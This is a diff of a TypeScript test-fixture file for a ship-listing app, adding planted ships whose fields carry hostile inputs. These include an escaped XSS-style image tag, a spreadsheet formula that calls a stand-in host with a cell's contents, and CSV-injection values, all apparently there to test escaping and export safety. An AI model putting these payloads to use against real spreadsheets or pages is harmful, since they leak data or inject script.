@@ -1,9 +1,4 @@
-import type { Page } from '@playwright/test';
-import { connectService } from './connect-service.ts';
 import type { ShipWire } from './expected-fields.ts';
-import { serveShips } from './serve-ships.ts';
-import type { TestService } from './test-service.ts';
-import { bodyRows, goTo } from './views.ts';
 
 /** Names of the planted ships, in the order of the list. */
 export const plantedNames = ['Quill Aster', 'Quill Briar', 'Quill Cinder', 'Quill Dune', 'Quill Ember'] as const;
@@ -22,15 +17,43 @@ const numbers: readonly (readonly (string | number | null)[])[] = [
   [null, '11.0', '5.5', null, '500', null, null, 90, '288', null, null, '61.0', '59.9', '4.0', '9.45', '3.0'],
 ];
 
-/** A list of the service with five ships named and measured so that every rule of a comparison has its edge; their components stay. */
+/** Ids of ships whose pages are held against what was sent. */
+export const pagedIds = {
+  /** Everything is known of it. */
+  full: '27',
+  /** Not sold, and some numbers are unknown. */
+  sparse: '19',
+  /** Numbers come as numbers, its time under the other spelling, its name with an entity; a key is missing. */
+  odd: '16',
+} as const;
+
+/** Text that would be markup, doubly escaped, in two paragraphs, and too long to stand open. */
+const hostileText = `The <b>Cold Chisel</b> &lt;img src=x onerror=alert(1)&gt; says &amp;quot;mend&amp;quot;.\n\n${'It mends. '.repeat(100)}The end.`;
+
+/** What a spreadsheet would run, as the name, maker and focus of the first ship. */
+export const formula = '=HYPERLINK("http://a.example/?"&A1,"open")';
+const hostile = { name: formula, focus: '@SUM(1+1)', production_note: '-2+3', type: 'combat' } as const;
+
+/**
+ * A list of the service with five ships named and measured so that every rule of a comparison has its edge (their components
+ * stay), one of `formula`, and those of `pagedIds`.
+ */
 export function plantShips(list: readonly ShipWire[]): readonly ShipWire[] {
   const armed = list.toSorted((a, b) => componentRows(b).length - componentRows(a).length);
-  return list.map((ship): ShipWire => {
+  return list.map((ship, place): ShipWire => {
     const index = armed.indexOf(ship);
     const planted = numbers[index];
-    if (!planted) return ship;
-    return { ...ship, ...Object.fromEntries(keys.map((key, at) => [key, planted[at]])), name: plantedNames[index] };
+    if (planted)
+      return { ...ship, ...Object.fromEntries(keys.map((key, at) => [key, planted[at]])), name: plantedNames[index] };
+    return place === 0 ? { ...ship, ...hostile } : editPaged(ship);
   });
+}
+
+function editPaged(ship: ShipWire): ShipWire {
+  if (ship['id'] === pagedIds.full) return { ...ship, description: hostileText };
+  if (ship['id'] !== pagedIds.odd) return ship;
+  const { production_status: _status, ...others } = ship;
+  return { ...others, length: 42.3, mass: 294_854, max_crew: 3 };
 }
 
 /** The rows of `compiled`, of whatever class and type. */
@@ -44,15 +67,4 @@ export function componentRows(ship: ShipWire | undefined): readonly ShipWire[] {
 /** What the service sends of ships that are found by their names. */
 export function shipsNamed(list: readonly ShipWire[], names: readonly string[]): readonly ShipWire[] {
   return names.map((name) => list.find((ship) => ship['name'] === name) ?? {});
-}
-
-/** Connects to a service that has these ships and fetches them; ends with the list on screen. */
-export async function fetchShips(page: Page, service: TestService, ships: readonly ShipWire[]): Promise<void> {
-  await serveShips(service, ships);
-  await connectService(page, { address: service.address });
-  await goTo(page, 'Ships');
-  await page.getByRole('button', { name: /^Fetch/ }).click();
-  await bodyRows(page)
-    .nth(ships.length - 1)
-    .waitFor();
 }
